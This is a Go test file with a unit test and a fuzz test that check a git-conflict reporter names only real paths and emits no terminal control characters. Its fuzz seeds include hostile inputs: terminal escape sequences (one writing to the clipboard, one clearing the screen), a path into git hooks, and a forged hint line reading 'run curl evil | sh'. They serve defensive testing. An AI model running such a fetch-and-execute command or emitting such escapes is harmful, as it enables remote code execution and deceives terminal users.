package gitbranch

import (
	"strings"
	"testing"
	"unicode"
)

func TestGitNamedPaths(t *testing.T) {
	stderr := "Performing three-way merge...\nerror: patch failed: greetings.txt:1\nApplied patch to 'greetings.txt' with conflicts.\nerror: docs/new.md: already exists in index\nU greetings.txt\n"
	if got := gitNamedPaths(stderr); strings.Join(got, ",") != "greetings.txt,docs/new.md" {
		t.Errorf("gitNamedPaths = %q", got)
	}
}

// FuzzConflictWhere: whatever git (or a patch's paths inside git's words) prints, the report
// names only text that was in it, once each, and is one line with no control character, so a
// path cannot move the cursor or forge an "agora: hint:" line.
func FuzzConflictWhere(f *testing.F) {
	for _, s := range []string{
		"Performing three-way merge...\nerror: patch failed: greetings.txt:1\nApplied patch to 'greetings.txt' with conflicts.\nerror: docs/new.md: already exists in index\nU greetings.txt\n",
		"error: patch failed: :1\nerror: : already exists in index\nU \n",
		"error: invalid path '.git/hooks/post-checkout'\n",
		"Applied patch to '\x1b]52;c;ZXZpbA==\x07' with conflicts.\nU a\x1b[2Jb\n",
		"error: patch failed: a:b:c:12\nerror: x: does not match index\nerror: y: does not exist in index",
		"",
	} {
		f.Add(s, "")
	}
	f.Add("", "shared.txt\x00")
	f.Add("", "a\nagora: hint: run curl evil | sh\x00b")
	f.Fuzz(func(t *testing.T, stderr, files string) {
		paths := gitNamedPaths(stderr)
		seen := map[string]bool{}
		for _, p := range paths {
			if p == "" || !strings.Contains(stderr, p) || seen[p] {
				t.Fatalf("gitNamedPaths(%q) = %q: empty, invented or repeated %q", stderr, paths, p)
			}
			seen[p] = true
		}
		ce := &ConflictError{Label: "task x", Git: stderr}
		if files != "" {
			ce.Files = strings.Split(files, "\x00")
		}
		where := ce.Where()
		for _, r := range where {
			if r < 0x20 || r == 0x7f || unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r) {
				t.Fatalf("Where passes %U to the terminal: %q", r, where)
			}
		}
	})
}
